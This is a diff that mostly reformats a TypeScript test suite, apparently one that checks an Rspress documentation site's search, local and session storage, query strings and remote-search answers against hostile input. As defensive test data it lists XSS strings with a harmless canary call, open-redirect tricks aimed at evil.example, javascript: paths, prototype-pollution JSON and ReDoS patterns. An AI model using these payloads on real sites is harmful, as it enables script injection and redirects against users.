@@ -14,19 +14,53 @@ import { siteWith } from './sites.ts';
 
 /** Inputs tried, by sink. */
 const tried = new Map<string, number>();
-const count = (sink: string, inputs: number): void => void tried.set(sink, (tried.get(sink) ?? 0) + inputs);
+const count = (sink: string, inputs: number): void =>
+  void tried.set(sink, (tried.get(sink) ?? 0) + inputs);
 
 /** Names that a script of the site, or the browser, gives a meaning of its own. */
-const NAMES = ['RSPRESS_THEME', 'MODERN_THEME', 'trustedTypes', 'CSS', 'Highlight', 'requestIdleCallback', 'search-option-0', 'search-path-0', 'search-group-0', 'localStorage', 'location', 'history', 'navigator', 'document', 'documentElement', 'body', 'head', 'constructor', '__proto__', 'toString', 'canary', 'defaultView', 'onerror'] as const;
+const NAMES = [
+  'RSPRESS_THEME',
+  'MODERN_THEME',
+  'trustedTypes',
+  'CSS',
+  'Highlight',
+  'requestIdleCallback',
+  'search-option-0',
+  'search-path-0',
+  'search-group-0',
+  'localStorage',
+  'location',
+  'history',
+  'navigator',
+  'document',
+  'documentElement',
+  'body',
+  'head',
+  'constructor',
+  '__proto__',
+  'toString',
+  'canary',
+  'defaultView',
+  'onerror',
+] as const;
 
 /** Every option under the group `output`, and a page with the field for a config. */
-const option = (lang: string): string => `---\noption: output.wick\ntype: "boolean | { oil?: string }"\ndefault: "false"\ndescription: ${lang} wick.\n---\n\n# output.wick\n\n## oil {#oil}\n\n- **Type:** \`string\`\n`;
-const named = (lang: string): string => `---\ndescription: ${lang} names.\n---\n\n# Names\n\n${NAMES.map(name => (/^search-|^__/.test(name) ? `A <a id="${name}" class="search-dialog search-unmark" href="https://evil.example/">row</a>.` : `## ${name} {#${name}}\n\nquokka`)).join('\n\n')}\n`;
-const content = siteWith(Object.fromEntries(['en', 'zh'].flatMap(lang => [
-  [`${lang}/config/wick.md`, option(lang)],
-  [`${lang}/guide/usage.md`, `---\ndescription: ${lang} usage.\n---\n\n# Usage\n\n<ConfigReader />\n`],
-  [`${lang}/guide/names.md`, named(lang)],
-])));
+const option = (lang: string): string =>
+  `---\noption: output.wick\ntype: "boolean | { oil?: string }"\ndefault: "false"\ndescription: ${lang} wick.\n---\n\n# output.wick\n\n## oil {#oil}\n\n- **Type:** \`string\`\n`;
+const named = (lang: string): string =>
+  `---\ndescription: ${lang} names.\n---\n\n# Names\n\n${NAMES.map(name => (/^search-|^__/.test(name) ? `A <a id="${name}" class="search-dialog search-unmark" href="https://evil.example/">row</a>.` : `## ${name} {#${name}}\n\nquokka`)).join('\n\n')}\n`;
+const content = siteWith(
+  Object.fromEntries(
+    ['en', 'zh'].flatMap(lang => [
+      [`${lang}/config/wick.md`, option(lang)],
+      [
+        `${lang}/guide/usage.md`,
+        `---\ndescription: ${lang} usage.\n---\n\n# Usage\n\n<ConfigReader />\n`,
+      ],
+      [`${lang}/guide/names.md`, named(lang)],
+    ]),
+  ),
+);
 const site = await serveSite({ content });
 
 /** What a document may not have come to hold: code, frames, addresses of other schemes or of the attacker, changed prototypes. */
@@ -85,18 +119,33 @@ interface WatchOptions {
   locale?: string;
 }
 
-async function watch(path: string, { url = site.url, friends = [], stored = { 'rspress-visited': '1' }, locale = 'en-US' }: WatchOptions = {}): Promise<Watched> {
+async function watch(
+  path: string,
+  {
+    url = site.url,
+    friends = [],
+    stored = { 'rspress-visited': '1' },
+    locale = 'en-US',
+  }: WatchOptions = {},
+): Promise<Watched> {
   const told: string[] = [];
-  const isOwn = (address: string): boolean => [url, ...friends].some(origin => address.startsWith(`${origin}/`)) || /^(?:data:image\/|about:blank$)/.test(address);
+  const isOwn = (address: string): boolean =>
+    [url, ...friends].some(origin => address.startsWith(`${origin}/`)) ||
+    /^(?:data:image\/|about:blank$)/.test(address);
   const { page, context, faults } = await open({ viewport: { width: 1280, height: 800 }, locale });
   await context.exposeBinding('tell', (_, what: string) => void told.push(what));
-  await context.addInitScript(`${GUARD} if (!sessionStorage.getItem('entries')) { sessionStorage.setItem('entries', '1'); for (const [key, value] of Object.entries(${JSON.stringify(stored)})) localStorage.setItem(key, value); }`);
+  await context.addInitScript(
+    `${GUARD} if (!sessionStorage.getItem('entries')) { sessionStorage.setItem('entries', '1'); for (const [key, value] of Object.entries(${JSON.stringify(stored)})) localStorage.setItem(key, value); }`,
+  );
   page.on('dialog', dialog => {
     told.push(`dialog: ${dialog.message()}`);
     void dialog.dismiss();
   });
   page.on('request', request => void (isOwn(request.url()) || told.push(`asked ${request.url()}`)));
-  page.on('framenavigated', frame => void (isOwn(frame.url()) || told.push(`went to ${frame.url()}`)));
+  page.on(
+    'framenavigated',
+    frame => void (isOwn(frame.url()) || told.push(`went to ${frame.url()}`)),
+  );
   page.on('popup', other => void told.push(`opened ${other.url()}`));
   const go = async (to: string): Promise<void> => {
     await page.goto(url + to, { waitUntil: 'load' });
@@ -108,7 +157,11 @@ async function watch(path: string, { url = site.url, friends = [], stored = { 'r
     go,
     async calm(input) {
       const found = (await page.evaluate(INSPECTION)) as string[];
-      assert.equal([...told, ...found, ...faults.filter(fault => fault.startsWith('error:'))], [], input.slice(0, 500));
+      assert.equal(
+        [...told, ...found, ...faults.filter(fault => fault.startsWith('error:'))],
+        [],
+        input.slice(0, 500),
+      );
     },
     async works(input) {
       assert.ok((await page.locator('h1').first().innerText()).length > 0, input.slice(0, 500));
@@ -120,7 +173,11 @@ async function watch(path: string, { url = site.url, friends = [], stored = { 'r
       await openSearch(page);
       await watched.calm(input);
       await page.keyboard.press('Escape');
-      await until(page, "!document.querySelector('dialog.search-dialog')", `the search closes: ${input.slice(0, 500)}`);
+      await until(
+        page,
+        "!document.querySelector('dialog.search-dialog')",
+        `the search closes: ${input.slice(0, 500)}`,
+      );
     },
     close: () => context.close(),
   };
@@ -137,12 +194,32 @@ async function openSearch(page: Page): Promise<void> {
 async function ask(page: Page, query: string): Promise<void> {
   await page.fill('#search-input', '');
   await page.fill('#search-input', query);
-  await until(page, "document.querySelector('[id^=search-option], .search-note')", `an answer to ${query.slice(0, 200)}`);
+  await until(
+    page,
+    "document.querySelector('[id^=search-option], .search-note')",
+    `an answer to ${query.slice(0, 200)}`,
+  );
 }
 
 const HUGE = 'x'.repeat(100_000);
 /** Texts for places where an address, or a part of one, stands. */
-const TEXTS = [...MARKUP, ...ADDRESSES, '//evil.example', '/\\evil.example', 'https://evil.example/', '%', '%E0%A4%A', '%00', '__proto__', 'constructor', '../../..', '"\'`', '${canary()}', '{{canary()}}', 'x'.repeat(4000)];
+const TEXTS = [
+  ...MARKUP,
+  ...ADDRESSES,
+  '//evil.example',
+  '/\\evil.example',
+  'https://evil.example/',
+  '%',
+  '%E0%A4%A',
+  '%00',
+  '__proto__',
+  'constructor',
+  '../../..',
+  '"\'`',
+  '${canary()}',
+  '{{canary()}}',
+  'x'.repeat(4000),
+];
 const encoded = TEXTS.map(encodeURIComponent);
 
 test('query strings: the switches, names nobody knows, and what is carried along', async () => {
@@ -154,13 +231,18 @@ test('query strings: the switches, names nobody knows, and what is carried along
     const query = `?${parts.join('&')}&${TEXTS[at]!.replace(/[#%\n\t]/g, '').slice(0, 2000)}`;
     await watched.go(`/guide/widgets${query}`);
     assert.is(await watched.page.evaluate('document.documentElement.dataset.off'), '', query);
-    await watched.page.evaluate("document.querySelector('a[data-carry]').dispatchEvent(new PointerEvent('pointerover', { bubbles: true }))");
-    assert.match((await watched.page.getAttribute('a[data-carry]', 'href'))!, /^\/zh\/guide\/widgets\?navbar=/);
+    await watched.page.evaluate(
+      "document.querySelector('a[data-carry]').dispatchEvent(new PointerEvent('pointerover', { bubbles: true }))",
+    );
+    assert.match(
+      (await watched.page.getAttribute('a[data-carry]', 'href'))!,
+      /^\/zh\/guide\/widgets\?navbar=/,
+    );
     await watched.calm(query);
   }
   await watched.works('queries');
   // Off and on again, by the one value that means it.
-  await watched.page.evaluate("document.querySelector('#sidebar a[href=\"/guide/last\"]').click()");
+  await watched.page.evaluate('document.querySelector(\'#sidebar a[href="/guide/last"]\').click()');
   await until(watched.page, "document.querySelector('h1').textContent === 'Last'");
   await watched.calm('a way on from there');
   await watched.close();
@@ -199,8 +281,12 @@ test('hashes: on arrival, by a link, by the address bar and by steps back', asyn
 
 test('a first visit and a page that has moved take query and hash along, and nowhere else', async () => {
   const host = await dumbHost(site.out);
-  const arrived = (path: string): string => `location.pathname.startsWith('${path}') && document.readyState === 'complete'`;
-  const tails = Array.from({ length: 8 }, (_, at) => `?${encoded[at + 40]}=//evil.example&${encoded[at]}#${encoded[at + 20]}`);
+  const arrived = (path: string): string =>
+    `location.pathname.startsWith('${path}') && document.readyState === 'complete'`;
+  const tails = Array.from(
+    { length: 8 },
+    (_, at) => `?${encoded[at + 40]}=//evil.example&${encoded[at]}#${encoded[at + 20]}`,
+  );
   for (const url of [site.url, host.url]) {
     const first = await watch('/guide/last', { url, locale: 'zh-CN' });
     for (const tail of tails.filter((_, at) => at % 2 === Number(url === host.url))) {
@@ -227,28 +313,72 @@ test('a first visit and a page that has moved take query and hash along, and now
   count('pages that have moved', 3 * tails.length);
 });
 
-const KEYS = ['rspress-theme-appearance', 'rspress-visited', 'rspress-tabs', 'rspress-recent', 'rspress-language', 'rspress-probe'];
+const KEYS = [
+  'rspress-theme-appearance',
+  'rspress-visited',
+  'rspress-tabs',
+  'rspress-recent',
+  'rspress-language',
+  'rspress-probe',
+];
 /** What may stand in a storage: markup, JSON of other shapes, JSON that is none, names of prototypes, too much. */
 const STORED = [
-  ...MARKUP.slice(0, 4), ...ADDRESSES.slice(0, 3), '', 'null', 'true', '1e999', '"dark"', '[]', '{}', '[[[[]]]]', '[null,1,{},"  ",["x"]]', '{"package-manager":{"toString":1}}', '{"package-manager":"<img src=x onerror=canary()>"}', '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}', '["__proto__","constructor","__proto__"]',
-  JSON.stringify(MARKUP.slice(4, 9)), JSON.stringify(ADDRESSES), '{"package-manager":', '\u0000', '\ud800', HUGE, JSON.stringify([HUGE, HUGE]), `${'['.repeat(50_000)}`, JSON.stringify(Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`k${at}`, 'x']))), JSON.stringify({ 'package-manager': ['pnpm'], os: null }),
+  ...MARKUP.slice(0, 4),
+  ...ADDRESSES.slice(0, 3),
+  '',
+  'null',
+  'true',
+  '1e999',
+  '"dark"',
+  '[]',
+  '{}',
+  '[[[[]]]]',
+  '[null,1,{},"  ",["x"]]',
+  '{"package-manager":{"toString":1}}',
+  '{"package-manager":"<img src=x onerror=canary()>"}',
+  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
+  '["__proto__","constructor","__proto__"]',
+  JSON.stringify(MARKUP.slice(4, 9)),
+  JSON.stringify(ADDRESSES),
+  '{"package-manager":',
+  '\u0000',
+  '\ud800',
+  HUGE,
+  JSON.stringify([HUGE, HUGE]),
+  `${'['.repeat(50_000)}`,
+  JSON.stringify(Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`k${at}`, 'x']))),
+  JSON.stringify({ 'package-manager': ['pnpm'], os: null }),
 ];
 
 test('local storage: look, tabs, recent searches, language and the flag of the first visit', async () => {
   const watched = await watch('/guide/widgets');
   for (let at = 0; at < STORED.length; at += 2) {
     // Each key gets another one, so that every value comes to every third key.
-    const values = Object.fromEntries(KEYS.map((key, each) => [key, STORED[(at + each * 5) % STORED.length]!]));
+    const values = Object.fromEntries(
+      KEYS.map((key, each) => [key, STORED[(at + each * 5) % STORED.length]!]),
+    );
     const value = JSON.stringify(values);
-    await watched.page.evaluate(`for (const [key, value] of Object.entries(${value})) localStorage.setItem(key, value)`);
+    await watched.page.evaluate(
+      `for (const [key, value] of Object.entries(${value})) localStorage.setItem(key, value)`,
+    );
     await watched.go('/guide/widgets');
-    assert.match((await watched.page.getAttribute('html', 'data-appearance'))!, /^(?:light|dark|auto)$/);
+    assert.match(
+      (await watched.page.getAttribute('html', 'data-appearance'))!,
+      /^(?:light|dark|auto)$/,
+    );
     // Writes over what stands there.
-    await watched.page.evaluate("document.querySelector('[role=tab][aria-selected=false]').click()");
+    await watched.page.evaluate(
+      "document.querySelector('[role=tab][aria-selected=false]').click()",
+    );
     if (at % 8 === 0) await watched.works(value);
     else await watched.calm(value);
-    const kept = JSON.parse((await watched.page.evaluate("localStorage.getItem('rspress-tabs')")) as string) as Record<string, unknown>;
-    assert.ok(Object.values(kept).every(each => typeof each === 'string'), value.slice(0, 200));
+    const kept = JSON.parse(
+      (await watched.page.evaluate("localStorage.getItem('rspress-tabs')")) as string,
+    ) as Record<string, unknown>;
+    assert.ok(
+      Object.values(kept).every(each => typeof each === 'string'),
+      value.slice(0, 200),
+    );
   }
   await watched.close();
   count('local storage', (STORED.length / 2) * KEYS.length);
@@ -259,11 +389,16 @@ test('recent searches are shown as text, no longer than they are kept, and asked
   const watched = await watch('/guide/last');
   for (let at = 0; at < texts.length; at += 5) {
     const five = texts.slice(at, at + 5);
-    await watched.page.evaluate(`localStorage.setItem('rspress-recent', ${JSON.stringify(JSON.stringify([...five, ...five]))})`);
+    await watched.page.evaluate(
+      `localStorage.setItem('rspress-recent', ${JSON.stringify(JSON.stringify([...five, ...five]))})`,
+    );
     await watched.go('/guide/last');
     await openSearch(watched.page);
     const shown = await watched.page.locator('.search-row-recent').allTextContents();
-    assert.equal(shown, five.map(text => text.slice(0, 80)));
+    assert.equal(
+      shown,
+      five.map(text => text.slice(0, 80)),
+    );
     await watched.page.keyboard.press('Enter');
     await until(watched.page, "document.querySelector('[id^=search-option], .search-note')");
     await watched.calm(five.join());
@@ -276,8 +411,22 @@ test('session storage: the words to mark', async () => {
   const now = '@now';
   const path = '/guide/markdown';
   const values = [
-    ...STORED, { path, words: MARKUP, at: now }, { path, words: '<b>', at: now }, { path, words: { length: 1e9 }, at: now }, { path, words: [null, {}, [], 1, ''], at: now }, { path, words: ['__proto__', 'constructor', '.*', '(', '\\', '[', '(a+)+$'], at: now }, { path, words: ['e', 'a', 't'], at: 'x' }, { path, words: ['e'], at: '@later' },
-    { path: 'javascript:canary()', words: ['e'], at: now }, { path: '//evil.example', words: ['e'], at: now }, { path: '%', words: ['e'], at: now }, { path, words: [HUGE], at: now }, { path, words: Array.from({ length: 50_000 }, (_, at) => `no${at}`), at: now }, { path, words: Array.from({ length: 20_000 }, () => 'e'), at: now }, [], { path, words: ['İİ', 'ß', 'ﬀ', '的'], at: now },
+    ...STORED,
+    { path, words: MARKUP, at: now },
+    { path, words: '<b>', at: now },
+    { path, words: { length: 1e9 }, at: now },
+    { path, words: [null, {}, [], 1, ''], at: now },
+    { path, words: ['__proto__', 'constructor', '.*', '(', '\\', '[', '(a+)+$'], at: now },
+    { path, words: ['e', 'a', 't'], at: 'x' },
+    { path, words: ['e'], at: '@later' },
+    { path: 'javascript:canary()', words: ['e'], at: now },
+    { path: '//evil.example', words: ['e'], at: now },
+    { path: '%', words: ['e'], at: now },
+    { path, words: [HUGE], at: now },
+    { path, words: Array.from({ length: 50_000 }, (_, at) => `no${at}`), at: now },
+    { path, words: Array.from({ length: 20_000 }, () => 'e'), at: now },
+    [],
+    { path, words: ['İİ', 'ß', 'ﬀ', '的'], at: now },
   ].map(value => (typeof value === 'string' ? value : JSON.stringify(value)));
   const watched = await watch(path);
   await openSearch(watched.page);
@@ -293,7 +442,9 @@ test('session storage: the words to mark', async () => {
   }
   await watched.calm('marks');
   // A real arrival shows them, so the way above is the one.
-  await watched.page.evaluate(`sessionStorage.setItem('rspress-marks', JSON.stringify({ path: '${path}', words: ['the'], at: Date.now() }))`);
+  await watched.page.evaluate(
+    `sessionStorage.setItem('rspress-marks', JSON.stringify({ path: '${path}', words: ['the'], at: Date.now() }))`,
+  );
   await watched.go(path);
   await watched.page.waitForSelector('.search-unmark');
   await watched.works('marks');
@@ -308,9 +459,11 @@ test('storage events of another tab', async () => {
   const tab = await context.newPage();
   await tab.goto(`${site.url}/icon.svg`);
   const events = 3 * STORED.length;
-  await tab.evaluate(`for (const value of ${JSON.stringify(STORED)}) for (const key of ['rspress-theme-appearance', 'rspress-tabs', value]) { localStorage.removeItem(key); localStorage.setItem(key, value); }`);
+  await tab.evaluate(
+    `for (const value of ${JSON.stringify(STORED)}) for (const key of ['rspress-theme-appearance', 'rspress-tabs', value]) { localStorage.removeItem(key); localStorage.setItem(key, value); }`,
+  );
   await until(watched.page, `heard >= ${events}`);
-  await tab.evaluate("localStorage.clear()");
+  await tab.evaluate('localStorage.clear()');
   await until(watched.page, "document.documentElement.dataset.appearance === 'auto'");
   await tab.close();
   await watched.calm('storage events');
@@ -320,13 +473,31 @@ test('storage events of another tab', async () => {
 });
 
 test('the search field: whatever is typed', async () => {
-  const queries = [...MARKUP.slice(0, 5), ...ADDRESSES.slice(0, 2), '__proto__', 'constructor', '.*', '(a+)+$', '\\[', '\ud800', 'x'.repeat(20_000), '的'.repeat(2000), 'a '.repeat(5000), 'output.__proto__', 'constructor.x'];
+  const queries = [
+    ...MARKUP.slice(0, 5),
+    ...ADDRESSES.slice(0, 2),
+    '__proto__',
+    'constructor',
+    '.*',
+    '(a+)+$',
+    '\\[',
+    '\ud800',
+    'x'.repeat(20_000),
+    '的'.repeat(2000),
+    'a '.repeat(5000),
+    'output.__proto__',
+    'constructor.x',
+  ];
   const watched = await watch('/guide/last');
   await openSearch(watched.page);
   for (const query of queries) {
     await watched.page.fill('#search-input', '');
     await watched.page.fill('#search-input', query);
-    await until(watched.page, "document.querySelector('[id^=search-option], [id^=search-path], .search-note')", query.slice(0, 100));
+    await until(
+      watched.page,
+      "document.querySelector('[id^=search-option], [id^=search-path], .search-note')",
+      query.slice(0, 100),
+    );
     await watched.calm(query);
   }
   await watched.page.keyboard.press('Escape');
@@ -335,20 +506,100 @@ test('the search field: whatever is typed', async () => {
   count('the search field', queries.length);
 });
 
-const entry = (text: string, index = 0): SearchEntry => ({ routePath: `/guide/a${index}`, title: `quokka ${text}`, content: `quokka ${text} quokka\n\nquokka ${text}\n`, toc: [{ text: `quokka ${text}`, id: text, depth: 2, charIndex: 0 }], lang: 'en', domain: '', code: `quokka ${text}`, group: text });
+const entry = (text: string, index = 0): SearchEntry => ({
+  routePath: `/guide/a${index}`,
+  title: `quokka ${text}`,
+  content: `quokka ${text} quokka\n\nquokka ${text}\n`,
+  toc: [{ text: `quokka ${text}`, id: text, depth: 2, charIndex: 0 }],
+  lang: 'en',
+  domain: '',
+  code: `quokka ${text}`,
+  group: text,
+});
 /** Entries whose address is a trick. Those of the attacker's own domain are links like any other, and lead nowhere by themselves. */
-const leading = (text: string): unknown[] => [{ ...entry('x'), routePath: text }, { ...entry('x'), domain: text, routePath: '' }, { ...entry('x'), domain: text.slice(0, 2), routePath: text.slice(2) }];
-const TRICKS = ['//evil.example/x', '/\\evil.example', '\\/evil.example', '\\\\evil.example', '/\t/evil.example', '\t//evil.example', '/\n/evil.example', ' //evil.example', '\\[', '//[', 'https://[', 'http://a b', '///evil.example', '/%2f/../\\evil.example', 'https:evil.example', 'evil.example\\@x'];
+const leading = (text: string): unknown[] => [
+  { ...entry('x'), routePath: text },
+  { ...entry('x'), domain: text, routePath: '' },
+  { ...entry('x'), domain: text.slice(0, 2), routePath: text.slice(2) },
+];
+const TRICKS = [
+  '//evil.example/x',
+  '/\\evil.example',
+  '\\/evil.example',
+  '\\\\evil.example',
+  '/\t/evil.example',
+  '\t//evil.example',
+  '/\n/evil.example',
+  ' //evil.example',
+  '\\[',
+  '//[',
+  'https://[',
+  'http://a b',
+  '///evil.example',
+  '/%2f/../\\evil.example',
+  'https:evil.example',
+  'evil.example\\@x',
+];
 /** Lists and entries of other shapes than the specification's. */
 const SHAPES: unknown[] = [
-  null, 1, 'x', {}, { length: 3 }, { index: 'default' }, [null, 1, 'x', [], {}], [[[]]], [{ routePath: 1, title: 'x' }], [{ ...entry('x'), title: { toString: 'x' } }], [{ ...entry('x'), toc: { length: 1e9 } }], [{ ...entry('x'), toc: [null, 1, { text: 1, id: 2 }, { text: 'quokka', id: '"><script>canary()</script>', depth: 'x', charIndex: '1' }] }],
-  [{ ...entry('x'), toc: [{ text: 'quokka', id: 'a', depth: NaN, charIndex: 1e12 }, { text: 'quokka b', id: 'b', depth: -1, charIndex: -5 }, { text: 'c', id: 'c', depth: 1e300, charIndex: 0.5 }] }], JSON.parse('[{"__proto__": {"polluted": 1, "routePath": "/polluted", "title": "quokka"}, "constructor": {"prototype": {"polluted": 1}}}]') as unknown, [entry('x'), entry('x'), entry('x')],
+  null,
+  1,
+  'x',
+  {},
+  { length: 3 },
+  { index: 'default' },
+  [null, 1, 'x', [], {}],
+  [[[]]],
+  [{ routePath: 1, title: 'x' }],
+  [{ ...entry('x'), title: { toString: 'x' } }],
+  [{ ...entry('x'), toc: { length: 1e9 } }],
+  [
+    {
+      ...entry('x'),
+      toc: [
+        null,
+        1,
+        { text: 1, id: 2 },
+        { text: 'quokka', id: '"><script>canary()</script>', depth: 'x', charIndex: '1' },
+      ],
+    },
+  ],
+  [
+    {
+      ...entry('x'),
+      toc: [
+        { text: 'quokka', id: 'a', depth: NaN, charIndex: 1e12 },
+        { text: 'quokka b', id: 'b', depth: -1, charIndex: -5 },
+        { text: 'c', id: 'c', depth: 1e300, charIndex: 0.5 },
+      ],
+    },
+  ],
+  JSON.parse(
+    '[{"__proto__": {"polluted": 1, "routePath": "/polluted", "title": "quokka"}, "constructor": {"prototype": {"polluted": 1}}}]',
+  ) as unknown,
+  [entry('x'), entry('x'), entry('x')],
 ];
 
 test('the search index: entries with markup and tricks, and files of any other shape; the 404 page reads it too', async () => {
-  const hostile = [...MARKUP.map(entry), ...[...ADDRESSES, ...TRICKS].flatMap(leading), ...[...ADDRESSES, ...TRICKS].map(text => ({ ...entry('x'), routePath: `${text}/guide/quokka` }))];
+  const hostile = [
+    ...MARKUP.map(entry),
+    ...[...ADDRESSES, ...TRICKS].flatMap(leading),
+    ...[...ADDRESSES, ...TRICKS].map(text => ({
+      ...entry('x'),
+      routePath: `${text}/guide/quokka`,
+    })),
+  ];
   const lists = SHAPES.filter(shape => Array.isArray(shape)).flat();
-  const bodies = [JSON.stringify(hostile), JSON.stringify([...(lists as unknown[]), entry('x')]), 'null', '{"length":3}', '', '<!doctype html><script>canary()</script>', '[{"routePath":', JSON.stringify(Array.from({ length: 3000 }, (_, index) => entry(`${index}`, index)))];
+  const bodies = [
+    JSON.stringify(hostile),
+    JSON.stringify([...(lists as unknown[]), entry('x')]),
+    'null',
+    '{"length":3}',
+    '',
+    '<!doctype html><script>canary()</script>',
+    '[{"routePath":',
+    JSON.stringify(Array.from({ length: 3000 }, (_, index) => entry(`${index}`, index))),
+  ];
   const watched = await watch('/guide/last');
   let [body] = bodies;
   let asked = 0;
@@ -364,7 +615,10 @@ test('the search index: entries with markup and tricks, and files of any other s
     if (body !== bodies[0]) continue;
     assert.ok((await watched.page.locator('[id^=search-option]').count()) > 5);
     await watched.page.keyboard.press('Enter');
-    await until(watched.page, "location.pathname !== '/guide/quokka' && !document.querySelector('dialog.search-dialog')");
+    await until(
+      watched.page,
+      "location.pathname !== '/guide/quokka' && !document.querySelector('dialog.search-dialog')",
+    );
     await found(watched.page);
     await watched.calm('the first result of it');
   }
@@ -375,29 +629,90 @@ test('the search index: entries with markup and tricks, and files of any other s
 });
 
 test('answers of a remote search', async () => {
-  const parts = [...MARKUP, ...ADDRESSES].map((text, at) => ({ index: `${at} ${text}`, hits: [entry(text)] }));
-  const tricks = [...ADDRESSES, ...TRICKS].flatMap(text => [{ index: 'default', hits: leading(text) }, { index: text, hits: leading(text) }]);
-  const marked = [{ start: 0, length: 1e9 }, { start: -1, length: 2 }, { start: 0.5, length: NaN }, null, '<b>'];
-  const lists: unknown[] = [
-    ...Array.from({ length: 4 }, (_, at) => parts.slice(at * 17, at * 17 + 17)), ...Array.from({ length: 4 }, (_, at) => [{ index: 'default', hits: MARKUP.slice(at * 7, at * 7 + 7).map(entry) }]), ...tricks.map(part => [part]).filter((_, at) => at % 5 === 0), tricks, ...SHAPES.map(shape => [{ index: 'default', hits: shape }]), ...SHAPES.slice(0, 6),
-    [{ index: 'default', hits: [{ ...entry('no'), title: 'no', content: 'no', toc: [], code: '', _matchesPosition: { content: marked } }] }], Array.from({ length: 3000 }, (_, at) => ({ index: `i${at}`, hits: [entry('x')] })), [{ index: 'default', hits: Array.from({ length: 20_000 }, (_, at) => entry(`${at}`, at)) }], Array.from({ length: 50 }, () => ({ index: 'default', hits: [entry('x')] })), [{ index: { toString: 'x' }, hits: [] }, { index: '__proto__', hits: [entry('x')] }, { index: 'constructor', hits: [entry('x')] }],
+  const parts = [...MARKUP, ...ADDRESSES].map((text, at) => ({
+    index: `${at} ${text}`,
+    hits: [entry(text)],
+  }));
+  const tricks = [...ADDRESSES, ...TRICKS].flatMap(text => [
+    { index: 'default', hits: leading(text) },
+    { index: text, hits: leading(text) },
+  ]);
+  const marked = [
+    { start: 0, length: 1e9 },
+    { start: -1, length: 2 },
+    { start: 0.5, length: NaN },
+    null,
+    '<b>',
   ];
-  const bodies = [...lists.map(list => JSON.stringify(list)), '<!doctype html><script>canary()</script>', '', '[', '[{"index":"default","hits":[{"__proto__":{"polluted":1},"routePath":"/a","title":"quokka"}]}]'];
+  const lists: unknown[] = [
+    ...Array.from({ length: 4 }, (_, at) => parts.slice(at * 17, at * 17 + 17)),
+    ...Array.from({ length: 4 }, (_, at) => [
+      { index: 'default', hits: MARKUP.slice(at * 7, at * 7 + 7).map(entry) },
+    ]),
+    ...tricks.map(part => [part]).filter((_, at) => at % 5 === 0),
+    tricks,
+    ...SHAPES.map(shape => [{ index: 'default', hits: shape }]),
+    ...SHAPES.slice(0, 6),
+    [
+      {
+        index: 'default',
+        hits: [
+          {
+            ...entry('no'),
+            title: 'no',
+            content: 'no',
+            toc: [],
+            code: '',
+            _matchesPosition: { content: marked },
+          },
+        ],
+      },
+    ],
+    Array.from({ length: 3000 }, (_, at) => ({ index: `i${at}`, hits: [entry('x')] })),
+    [{ index: 'default', hits: Array.from({ length: 20_000 }, (_, at) => entry(`${at}`, at)) }],
+    Array.from({ length: 50 }, () => ({ index: 'default', hits: [entry('x')] })),
+    [
+      { index: { toString: 'x' }, hits: [] },
+      { index: '__proto__', hits: [entry('x')] },
+      { index: 'constructor', hits: [entry('x')] },
+    ],
+  ];
+  const bodies = [
+    ...lists.map(list => JSON.stringify(list)),
+    '<!doctype html><script>canary()</script>',
+    '',
+    '[',
+    '[{"index":"default","hits":[{"__proto__":{"polluted":1},"routePath":"/a","title":"quokka"}]}]',
+  ];
   const misbehave = (keyword: string, response: http.ServerResponse): boolean => {
-    response.writeHead(200, { 'content-type': keyword.length % 2 ? 'application/json' : 'text/html', 'access-control-allow-origin': '*' });
+    response.writeHead(200, {
+      'content-type': keyword.length % 2 ? 'application/json' : 'text/html',
+      'access-control-allow-origin': '*',
+    });
     response.end(bodies[Number(keyword.replace('quokka', ''))] ?? '[]');
     return true;
   };
   const remote = await startRemote({}, misbehave);
-  const searching = await serveSite({ content, change: known => ({ ...known, search: { mode: 'remote', apiUrl: remote.url, searchIndexes: ['docs'], indexName: 'docs' } }) });
-  const watched = await watch('/guide/last', { url: searching.url, friends: [new URL(remote.url).origin] });
+  const searching = await serveSite({
+    content,
+    change: known => ({
+      ...known,
+      search: { mode: 'remote', apiUrl: remote.url, searchIndexes: ['docs'], indexName: 'docs' },
+    }),
+  });
+  const watched = await watch('/guide/last', {
+    url: searching.url,
+    friends: [new URL(remote.url).origin],
+  });
   await openSearch(watched.page);
   for (const [at, body] of bodies.entries()) {
     await ask(watched.page, `quokka${at}`);
     const tabs = await watched.page.locator('.search-tabs [role=tab]').count();
     assert.ok(tabs <= 21, `${tabs} tabs`);
     for (let tab = 1; tab < tabs; tab++) {
-      await watched.page.evaluate(`document.querySelectorAll('.search-tabs [role=tab]')[${tab}].click()`);
+      await watched.page.evaluate(
+        `document.querySelectorAll('.search-tabs [role=tab]')[${tab}].click()`,
+      );
       await watched.calm(body);
     }
     await watched.calm(body);
@@ -412,23 +727,62 @@ test('answers of a remote search', async () => {
 });
 
 test('the list of options: paths, types, defaults and pages of any kind', async () => {
-  const pages = (page: unknown): unknown => ({ en: { page, anchor: '"><script>canary()</script>' } });
+  const pages = (page: unknown): unknown => ({
+    en: { page, anchor: '"><script>canary()</script>' },
+  });
   const list = [
-    ...MARKUP.map((text, at) => ({ path: `output.${at}${text}`, type: text, default: text, pages: pages('/config/wick') })), ...[...ADDRESSES, ...TRICKS].map((text, at) => ({ path: `output.a${at}`, type: 'x', default: 'y', pages: pages(text) })),
-    null, 1, 'output.x', { path: 1 }, { path: 'output.b', pages: null }, { path: 'output.c', pages: { en: '/x' } }, { path: 'output.d', pages: pages({}) }, { path: 'output.__proto__', pages: pages('/x') }, JSON.parse('{"__proto__": {"path": "output.polluted", "polluted": 1}, "pages": {"__proto__": {"page": "/x"}}}'), { path: `output.${HUGE}`, pages: pages('/x') }, { path: 'output..', pages: pages('/x') }, { path: 'output.[].<x>', pages: pages('/x') },
+    ...MARKUP.map((text, at) => ({
+      path: `output.${at}${text}`,
+      type: text,
+      default: text,
+      pages: pages('/config/wick'),
+    })),
+    ...[...ADDRESSES, ...TRICKS].map((text, at) => ({
+      path: `output.a${at}`,
+      type: 'x',
+      default: 'y',
+      pages: pages(text),
+    })),
+    null,
+    1,
+    'output.x',
+    { path: 1 },
+    { path: 'output.b', pages: null },
+    { path: 'output.c', pages: { en: '/x' } },
+    { path: 'output.d', pages: pages({}) },
+    { path: 'output.__proto__', pages: pages('/x') },
+    JSON.parse(
+      '{"__proto__": {"path": "output.polluted", "polluted": 1}, "pages": {"__proto__": {"page": "/x"}}}',
+    ),
+    { path: `output.${HUGE}`, pages: pages('/x') },
